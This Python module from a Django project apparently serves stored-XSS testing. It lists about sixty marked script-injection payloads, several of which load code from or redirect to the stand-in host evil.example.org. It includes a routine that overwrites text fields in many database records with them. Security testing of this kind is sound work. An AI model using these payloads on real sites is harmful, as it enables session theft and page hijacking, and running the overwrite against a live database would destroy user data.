"""Sixty texts that would run in a reader's browser if one page did not escape them, and where they are typed.

Each holds MARK: as a tag or an attribute of a page it can only come from one of them.
"""

import itertools
from collections.abc import Iterator

from django.apps import apps
from django.db import Error, models, transaction

from audit.actions import acting

MARK = "xssq"
ELSEWHERE = "evil.example.org"
RUN = f"{MARK}()"

_EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter", "onbegin")
TEXTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//{ELSEWHERE}/{MARK}.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</option></select><img src=x onerror={RUN}>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<!--><img src=x onerror={RUN}>",
    *(f"<{MARK} {event}={RUN} tabindex=1 autofocus>" for event in _EVENTS),
    *(f"<img src=x {event}={RUN}>" for event in _EVENTS[:3]),
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN}>",
    f"<svg/onload={RUN}//",
    f"<math href=javascript:{RUN}>x</math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video src=x onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<iframe src=javascript:{RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<object data=//{ELSEWHERE}/{MARK}>",
    f"<embed src=//{ELSEWHERE}/{MARK}>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/{MARK}.css>",
    f"<style>@import '//{ELSEWHERE}/{MARK}'</style>",
    f"<style>*{{background:url(//{ELSEWHERE}/{MARK})}}</style>",
    f"<base href=//{ELSEWHERE}/{MARK}/>",
    f"<meta http-equiv=refresh content=0;url=//{ELSEWHERE}/{MARK}>",
    f"<form action=//{ELSEWHERE}/{MARK}><button>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href=data:text/html,{MARK}>x</a>",
    f"<img src=//{ELSEWHERE}/{MARK}.png>",
    f"<img srcset=//{ELSEWHERE}/{MARK}.png>",
    f'" onmouseover={RUN} x="',
    f"' onmouseover={RUN} x='",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"` onmouseover={RUN} `",
    f'" autofocus onfocus={RUN} {MARK}="',
    f'"><{MARK}>',
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<{MARK} style=position:fixed;inset:0>",
)
OURS = ("accounts", "children", "reviews", "participation", "disputes", "quality", "reporting", "office", "exchange")
# What is no text of a person's: keys, words of the code, what is signed or computed.
NOT_TYPED = frozenset({"password", "email", "token", "token_hash", "key", "kind", "search_name", "file"})
NO_TEXT = ("role", "_key")


def text_fields(model: type[models.Model]) -> list[models.Field]:  # type: ignore[type-arg]  # of any type
    """Return the fields of a model that hold what somebody typed."""
    return [
        field
        for field in model._meta.concrete_fields
        if type(field) in {models.CharField, models.TextField}
        and not field.choices
        and not field.unique
        and field.name not in NOT_TYPED
        and not field.name.endswith(NO_TEXT)
        and (field.max_length or 200) >= 30
    ]


def type_them_everywhere() -> dict[str, int]:
    """Write the texts into every text field of every record, a different one each time; return how many of each.

    A table to which nothing may be changed keeps what it has: `field` is then left out.
    """
    texts: Iterator[str] = itertools.cycle(TEXTS)
    written: dict[str, int] = {}
    for model in (each for app in OURS for each in apps.get_app_config(app).get_models()):
        for field in text_fields(model):
            for pk in model._base_manager.values_list("pk", flat=True)[:120]:
                text = next(each for each in texts if len(each) <= (field.max_length or 10_000))
                try:
                    with transaction.atomic(), acting():
                        model._base_manager.filter(pk=pk).update(**{field.name: text})
                except Error:
                    continue
                written[f"{model.__name__}.{field.name}"] = written.get(f"{model.__name__}.{field.name}", 0) + 1
    return written
